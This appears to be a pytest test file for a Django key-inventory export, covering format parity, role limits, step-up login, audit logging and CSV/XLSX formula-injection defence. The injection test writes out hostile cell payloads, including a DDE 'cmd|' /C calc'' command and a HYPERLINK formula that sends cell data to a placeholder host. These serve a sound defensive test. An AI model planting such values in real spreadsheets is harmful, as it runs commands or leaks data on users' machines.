"""The inventory as a file: whole, harmless, for some roles alone, and recorded before it leaves."""

import csv
import hashlib
import io
import json
from datetime import date

import openpyxl
import pytest
import time_machine
from django.core.management import CommandError, call_command

from audit.models import Event
from inventory import services
from inventory.export_views import export
from inventory.models import Key
from inventory.services import exports
from tests.inventory.world import ACTOR, NOW, events_of, make_key, make_owner, seal
from tests.people import sign_in

pytestmark = pytest.mark.django_db
DOOR = "/inventory/key/export/"
SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20", " ="]
BODIES = ["cmd|' /C calc'!A0", 'HYPERLINK("https://example.org?x="&A1,"a")', "1+1", "SUM(A1:A9)", "x"]
CELLS = [sign + body for sign in SIGNS for body in BODIES]


@pytest.fixture(autouse=True)
def clock():
    with time_machine.travel(NOW, tick=False):
        yield


def bytes_of(file_format, keys=None):
    chosen = Key.objects.all() if keys is None else keys
    return b"".join(services.export_keys(keys=chosen, chosen={}, file_format=file_format, actor=ACTOR, now=NOW))


def table(file_format, content):
    if file_format == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    if file_format == "json":
        rows = json.loads(content)
        return [list(rows[0]), *(list(row.values()) for row in rows)]
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [["" if cell is None else cell for cell in row] for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("file_format", ["csv", "xlsx", "json"])
def test_every_format_holds_the_same_facts(file_format):
    make_key(name="a", owner=make_owner("ann", "ann@example.org"), notes="two\nlines", size_bits=256)
    make_key(name="b", created_on=None, last_rotated_on=None)
    header, first, second = table(file_format, bytes_of(file_format))
    assert header == list(exports.COLUMNS)
    facts = dict(zip(header, first, strict=True))
    assert (facts["Name"], facts["Owner"], facts["Notes"], facts["Size in bits"]) == ("a", "ann", "two\nlines", "256")
    assert (facts["Creation date"], facts["State"], facts["Rotate by"][:10]) == ("2026-01-10", "active", "2026-10-11")
    assert dict(zip(header, second, strict=True))["Creation date"] == ""


def test_no_cell_of_a_spreadsheet_begins_a_formula():
    """WEB-04: 60 cells, each beginning as a spreadsheet would take for a formula."""
    assert len(CELLS) == 60
    key = make_key()
    Key.objects.bulk_create(Key(name=f"{number}", kind="api_token", notes=cell) for number, cell in enumerate(CELLS))
    Key.objects.filter(pk=key.pk).update(name="=1+1")
    rows = table("csv", bytes_of("csv"))
    assert len(rows) == 62
    armed = [
        cell
        for row in rows
        for cell in row
        if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
    ]
    assert armed == []
    book = openpyxl.load_workbook(io.BytesIO(bytes_of("xlsx"))).active
    assert {cell.data_type for row in book.iter_rows() for cell in row if cell.value is not None} <= {"s", "inlineStr"}


def test_an_export_imported_again_changes_nothing():
    make_key(
        name="a",
        owner=make_owner("ann", "ann@example.org"),
        algorithm="AES-256-GCM",
        size_bits=256,
        storage_medium="other",
        storage_location="shelf",
    )
    make_key(name="b", created_on=None, last_rotated_on=None)
    plan = services.plan_import(content=bytes_of("csv"), now=NOW)
    assert (list(plan.refused), list(plan.new)) == ([], [])
    assert [change.fields for change in plan.changed] == []


def test_it_is_read_by_pages_and_each_key_comes_once(monkeypatch, django_assert_num_queries):
    monkeypatch.setattr(exports, "PAGE_ROWS", 3)
    for number in range(8):
        make_key(name=f"{number}")
    with django_assert_num_queries(10):  # of each page that is not empty, its links and its users besides
        assert [key.name for key in exports.in_pages(Key.objects.all())] == [f"{number}" for number in range(8)]


def test_both_ends_are_recorded_with_the_digest_of_what_left(client, dave):
    make_key(name="late")
    make_key(name="not late", last_rotated_on=date(2026, 11, 1))
    sign_in(client, dave)
    answer = client.post(f"{DOOR}?due=overdue&o=-0&after=x", {"format": "csv"})
    content = b"".join(answer.streaming_content)
    assert answer["Content-Disposition"] == 'attachment; filename="inventory-2026-11-21.csv"'
    assert answer["Cache-Control"] == "no-store"
    assert [row[0] for row in table("csv", content)] == ["Name", "late"]
    seal()
    (begun,), (ended,) = events_of("inventory.export_begun"), events_of("inventory.exported")
    assert begun.said.facts == {"format": "csv", "chosen": {"due": "overdue", "o": "-0"}}
    assert (ended.said.actor_id, ended.said.outcome, ended.said.facts["keys"]) == (dave.ref, "done", 1)
    assert ended.said.facts["sha256"] == hashlib.sha256(content).hexdigest()
    assert (ended.said.facts["bytes"], ended.said.facts["export"]) == (len(content), str(begun.said.id))


def test_an_export_that_is_broken_off_is_recorded_as_failed():
    for number in range(3):
        make_key(name=f"{number}")
    pieces = services.export_keys(keys=Key.objects.all(), chosen={}, file_format="csv", actor=ACTOR, now=NOW)
    next(pieces)
    pieces.close()
    seal()
    assert [event.said.outcome for event in events_of("inventory.exported")] == ["failed"]


def test_a_sheet_that_would_be_too_long_is_refused_before_anything_leaves(monkeypatch, client, alice):
    monkeypatch.setattr(exports, "MOST_XLSX_ROWS", 2)
    make_key(name="a"), make_key(name="b")
    sign_in(client, alice)
    assert client.post(DOOR, {"format": "xlsx"}).status_code == 302
    assert client.post(DOOR, {"format": "json"}).status_code == 200
    seal()
    assert {event.said.facts["format"] for event in events_of("inventory.export_begun")} == {"json"}


MAY = {"alice": True, "bob": True, "carol": False, "dave": True, "erin": False}


@pytest.mark.parametrize("role", MAY)
@pytest.mark.parametrize("file_format", ["csv", "xlsx", "json"])
def test_security_devops_and_auditors_export_and_nobody_else(client, role, file_format, request):
    make_key()
    sign_in(client, request.getfixturevalue(role))
    answer = client.post(DOOR, {"format": file_format})
    assert answer.status_code == (200 if MAY[role] else 403)
    assert (b'value="xlsx"' in client.get("/inventory/key/").content) == MAY[role]
    seal()
    assert Event.objects.filter(action="inventory.export_begun").exists() == MAY[role]


def test_the_door_takes_a_post_of_a_known_format_and_declares_its_step_up(client, alice, mallory):
    assert export.requires_step_up is True
    client.force_login(alice)
    assert client.post(DOOR, {"format": "csv"}).status_code == 302  # no second factor
    sign_in(client, alice)
    assert client.get(DOOR).status_code == 405
    assert client.post(DOOR, {"format": "exe"}).status_code == 400
    assert client.post(f"{DOOR}?notes__regex=.*", {"format": "csv"}).status_code == 400
    assert not Event.objects.filter(action__startswith="inventory.export").exists()


def test_the_command_writes_what_the_list_would_show(tmp_path, as_role):
    make_key(name="late")
    make_key(name="not late", last_rotated_on=date(2026, 11, 1))
    target = tmp_path / "out.json"
    with as_role("command"):
        call_command("export_inventory", "--format=json", "--filter=due=overdue", f"--output={target}")
    assert [key["Name"] for key in json.loads(target.read_bytes())] == ["late"]
    seal()
    assert events_of("inventory.exported")[0].said.actor_id == "command:export_inventory"
    for wrong in (["--filter=due"], ["--filter=notes__regex=."], [f"--output={target}"]):
        with pytest.raises(CommandError):
            call_command("export_inventory", *wrong)
